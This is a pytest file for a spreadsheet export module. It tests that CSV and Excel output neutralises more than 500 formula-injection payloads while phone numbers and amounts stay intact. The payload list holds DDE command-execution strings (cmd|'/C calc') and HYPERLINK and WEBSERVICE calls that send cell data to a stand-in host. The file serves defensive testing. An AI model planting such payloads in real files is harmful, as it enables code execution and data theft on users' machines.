"""Lists for other programs hold what people typed, and start nothing there."""

import csv
import io
import random
import re
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from xml.etree import ElementTree as ET

import pytest

from mcsys_desktop.core.errors import UserError
from mcsys_desktop.documents import tables
from mcsys_desktop.documents.tables import Column, Kind

NOON = datetime(2026, 7, 1, 10, 0, tzinfo=UTC)
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

BODIES = (
    *("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://192.0.2.1/?"&A1,"klik")', "SUM(1,2)"),
    *('WEBSERVICE("http://192.0.2.1")', 'DDE("cmd";"/C calc";"x")', "A1", "2+5+cmd|' /C x'!A0"),
    *('IMPORTXML(CONCAT("http://x/",A1),"//a")', "10-20", "(1)"),
    *("cmd|' /C notepad'!'A1'", "A1-A2"),
)
BEGINNINGS = (
    *("=", "+", "-", "@", "==", "+-", "-+", "=-", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u3000="),
    *(
        "\u200b=",
        "\ufeff=",
        "\u202e=",
        "\x00=",
        '"=',
        '"+',
        "＝",
        "＋",
        "－",
        "＠",
        "﹦",
        "﹢",
        "﹣",
        "﹫",
    ),
    *(
        "⁼",
        "⁺",
        "⁻",
        "₌",
        "−",
        "|",
        "%",
        "x\t=",
        "x,=",
        'x","=',
        "x;=",
        'x";"=',
        "x\n=",
        "x|@",
        "x,+",
    ),
)
PAYLOADS = [beginning + body for beginning in BEGINNINGS for body in BODIES]


def phones_and_amounts() -> list[tuple[Kind, str]]:
    """Five hundred numbers that begin like a formula or could, and are none."""
    chance = random.Random(5)

    def digits(count: int) -> str:
        return "".join(chance.choices("0123456789", k=count))

    written: list[tuple[Kind, str]] = []
    for _number in range(50):
        rest = digits(8)
        pairs = " ".join(rest[at : at + 2] for at in range(0, 8, 2))
        whole = f"{chance.randrange(1, 999)},{digits(2)}"
        written += [
            (Kind.PHONE, f"+316{rest}"),
            (Kind.PHONE, f"+31 6 {pairs}"),
            (Kind.PHONE, f"+31 (0)33 {rest[:3]} {rest[3:5]} {rest[5:7]}"),
            (Kind.PHONE, f"06-{rest}"),
            (Kind.PHONE, f"+32 2 {rest[:3]} {rest[3:5]} {rest[5:7]} tst 12"),
            (Kind.TEXT, f"+316{rest}"),
            (Kind.TEXT, f"-{whole}"),
            (Kind.TEXT, f"€ -{whole}"),
            (Kind.TEXT, f"-1.{digits(3)},{digits(2)}"),
            (Kind.TEXT, f"+{chance.randrange(1, 99)}%"),
        ]
    return written


def read_back(data: bytes, delimiter: str = ";") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    """What a spreadsheet may calculate; a number or a phone number it may only read."""
    seen = unicodedata.normalize("NFKC", "".join(c for c in cell if c.isprintable() or c == " "))
    seen = seen.lstrip(' \t\r\n"').replace("−", "-")
    if not seen.startswith(("=", "+", "-", "@", "|", "%")):
        return False
    return not re.fullmatch(r"[+-]? ?(€ ?)?[\d., ]*\d(,-)? ?%?|\+\d[\d ()]*( tst \d+)?", seen)


def test_five_hundred_payloads_start_no_formula_in_csv() -> None:
    assert len(PAYLOADS) >= 500
    data = tables.csv_file([Column("=Naam")], [[payload] for payload in PAYLOADS])
    cells = read_back(data)
    assert len(cells) == len(PAYLOADS) + 1
    assert [row for row in cells if len(row) != 1 or is_formula(row[0])] == []
    assert sum(row[0].startswith("'") for row in cells) > 300


@pytest.mark.parametrize("delimiter", [",", "\t", "|"])
def test_nor_where_a_program_parts_the_cells_at_another_sign(delimiter: str) -> None:
    rows = [["Bakkerij", payload, payload] for payload in PAYLOADS]
    data = tables.csv_file([Column("a"), Column("b"), Column("c")], rows)
    found = [
        cell
        for row in read_back(data, delimiter)
        for cell in row
        if is_formula(cell.lstrip("\ufeff"))
    ]
    assert found == []


def test_the_test_sees_a_formula() -> None:
    for cell in ("=1", "+cmd|x", "-1+2", "@SUM(1)", " =1", "＝1", "−A1", "+31-6"):
        assert is_formula(cell), cell
    for cell in ("+31 6 12", "-12,50", "'=1", "€ -12,50", "x=1"):
        assert not is_formula(cell), cell


def test_five_hundred_phones_and_amounts_stay_as_they_are() -> None:
    values = phones_and_amounts()
    assert len(values) >= 500
    for kind in (Kind.PHONE, Kind.TEXT):
        typed = [value for its, value in values if its is kind]
        cells = read_back(tables.csv_file([Column("x", kind)], [[value] for value in typed]))
        assert [row[0] for row in cells[1:]] == typed


def test_a_phone_that_would_subtract_is_written_with_blanks() -> None:
    cells = read_back(tables.csv_file([Column("x", Kind.PHONE)], [["+31-6-1234.5678"], ["=1"]]))
    assert cells[1:] == [["+31 6 1234 5678"], ["'=1"]]


def test_ordinary_words_stay_as_they_are() -> None:
    typed = [
        *("Van 't Hof & Zn.", 'Zaal "De Kroon"', "kosten € 5,- per uur", "regel\n- punt\n- punt"),
        *("jan@voorbeeld.example", "a; b, c | d", "Çelik, Ø", "5-7 dagen", "x = y", "漢字 🍰"),
    ]
    cells = read_back(tables.csv_file([Column("x")], [[value] for value in typed]))
    assert [row[0] for row in cells[1:]] == typed


COLUMNS = [
    Column("Naam"),
    Column("Nummer", Kind.PHONE),
    Column("Bedrag", Kind.MONEY),
    Column("Aantal", Kind.NUMBER),
    Column("Dag", Kind.DAY),
    Column("Moment", Kind.MOMENT),
]
ROW = ("Anna", "+31612345678", -1250, Decimal("2.5"), date(2026, 7, 1), NOON)


def test_values_are_written_as_people_here_write_them() -> None:
    cells = read_back(tables.csv_file(COLUMNS, [ROW, (None,) * 6]))
    assert cells[1] == ["Anna", "+31612345678", "-12,50", "2,5", "01-07-2026", "01-07-2026 12:00"]
    assert cells[2] == [""] * 6
    cents = [[value] for value in (0, 5, -5, 99, -100, 123456789)]
    cells = read_back(tables.csv_file([Column("x", Kind.MONEY)], cents))
    assert [c[0] for c in cells[1:]] == ["0,00", "0,05", "-0,05", "0,99", "-1,00", "1234567,89"]


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        *((Kind.MONEY, 12.5), (Kind.MONEY, True), (Kind.MONEY, "12"), (Kind.TEXT, 1)),
        *((Kind.NUMBER, 1.5), (Kind.NUMBER, Decimal("NaN")), (Kind.DAY, NOON), (Kind.DAY, "=1")),
        *((Kind.MOMENT, date(2026, 1, 1)), (Kind.PHONE, 31612345678)),
    ],
)
def test_a_value_of_another_kind_is_a_bug(kind: Kind, value: object) -> None:
    with pytest.raises(TypeError, match="does not belong"):
        tables.csv_file([Column("x", kind)], [[value]])  # type: ignore[list-item]  # wrong
    with pytest.raises(TypeError, match="does not belong"):
        tables.xlsx_file("x", [Column("x", kind)], [[value]], NOON)  # type: ignore[list-item]  # wrong
    with pytest.raises(ValueError, match="zone"):
        tables.csv_file([Column("x", Kind.MOMENT)], [[datetime(2026, 1, 1)]])  # noqa: DTZ001  # without
    with pytest.raises(ValueError, match="zip"):
        tables.csv_file([Column("x")], [["a", "b"]])


class Sheet:
    """An Excel file, unzipped: what each cell says that it is."""

    def __init__(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.parts = {name: archive.read(name).decode() for name in archive.namelist()}
        shared = self.parts.get("xl/sharedStrings.xml", f"<sst xmlns='{MAIN[1:-1]}'/>")
        strings = ET.fromstring(shared)  # noqa: S314  # ours
        self._strings = [
            "".join(part.text or "" for part in item.iter(f"{MAIN}t")) for item in strings
        ]
        self.sheet = ET.fromstring(self.parts["xl/worksheets/sheet1.xml"])  # noqa: S314  # ours

    def cells(self) -> list[tuple[str, str]]:
        """The kind ("s" for text, "n" for a number) and value of each cell."""
        found = []
        for cell in self.sheet.iter(f"{MAIN}c"):
            value = cell.find(f"{MAIN}v")
            written = value.text or "" if value is not None else ""
            kind = cell.get("t", "n")
            found.append((kind, self._strings[int(written)] if kind == "s" else written))
        return found


def test_five_hundred_payloads_and_numbers_are_text_in_excel() -> None:
    typed = [value for _kind, value in phones_and_amounts()]
    data = tables.xlsx_file("x", [Column("x")], [[value] for value in PAYLOADS + typed], NOON)
    sheet = Sheet(data)
    cells = sheet.cells()
    assert len(cells) == len(PAYLOADS) + len(typed) + 1
    assert {kind for kind, _value in cells} == {"s"}
    assert [value for _kind, value in cells[-len(typed) :]] == typed
    assert list(sheet.sheet.iter(f"{MAIN}f")) == []
    assert list(sheet.sheet.iter(f"{MAIN}hyperlink")) == []
    everything = "".join(sheet.parts.values())
    assert "externalLink" not in everything
    assert "ddeLink" not in everything
    assert "definedName" not in everything.replace("_xlnm._FilterDatabase", "") or (
        everything.count("<definedName ") == 1  # the filter of the heading
    )


def test_money_numbers_and_days_are_real_ones_in_excel() -> None:
    sheet = Sheet(tables.xlsx_file("x", COLUMNS, [ROW], NOON))
    assert sheet.cells()[6:] == [
        *(("s", "Anna"), ("s", "+31612345678"), ("n", "-12.5"), ("n", "2.5")),
        *(("n", "46204"), ("n", "46204.5")),
    ]
    styles = sheet.parts["xl/styles.xml"]
    assert "€ #,##0.00;€ -#,##0.00" in styles
    assert "dd-mm-yyyy hh:mm" in styles


def test_what_excel_cannot_hold_becomes_text_and_says_so() -> None:
    columns = [Column("n", Kind.NUMBER), Column("d", Kind.DAY), Column("t")]
    rows: list[tuple[tables.Value, ...]] = [(10**16 + 1, date(1899, 1, 2), "🍰" * 40_000)]
    cells = Sheet(tables.xlsx_file("x", columns, rows, NOON)).cells()[3:]
    assert cells[0] == ("s", "10000000000000001")
    assert cells[1] == ("s", "02-01-1899")
    assert cells[2][1].endswith("]")
    assert len(cells[2][1].encode("utf-16-le")) // 2 <= tables.LONGEST_CELL
    assert "🍰" * 40_000 in tables.csv_file(columns, rows).decode()


def test_control_signs_and_written_escapes_come_back_as_they_were() -> None:
    typed = ["_x0041_ is geen A", "a\x00b\x1bc", "<b>&amp;</b>", "]]>", "regel\nregel"]
    cells = Sheet(tables.xlsx_file("x", [Column("x")], [[value] for value in typed], NOON)).cells()
    read = [value.replace("_x005F_", "_") for _kind, value in cells[1:]]
    assert read == ["_x0041_ is geen A", "abc", "<b>&amp;</b>", "]]>", "regel\nregel"]


@pytest.mark.parametrize("title", ["", "History", "a/b:c*d?[e]", "'x'", "x" * 40, "=1+1", "CON"])
def test_any_title_names_a_sheet(title: str) -> None:
    data = tables.xlsx_file(title, [Column(title)], [], NOON)
    workbook = Sheet(data).parts["xl/workbook.xml"]
    (name,) = re.findall(r'<sheet name="([^"]*)"', workbook)
    assert 1 <= len(name) <= 31
    assert not re.search(r"[\[\]:*?/\\]", name)


def test_the_same_list_makes_the_same_bytes() -> None:
    assert tables.xlsx_file("x", COLUMNS, [ROW], NOON) == tables.xlsx_file(
        "x", COLUMNS, [ROW], NOON
    )
    assert tables.csv_file(COLUMNS, [ROW]) == tables.csv_file(COLUMNS, [ROW])


def test_more_rows_than_fit_are_refused_and_never_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MOST_ROWS", 3)
    rows = [["x"]] * 4
    with pytest.raises(UserError):
        tables.xlsx_file("x", [Column("x")], rows, NOON)
    assert len(read_back(tables.csv_file([Column("x")], rows))) == 5
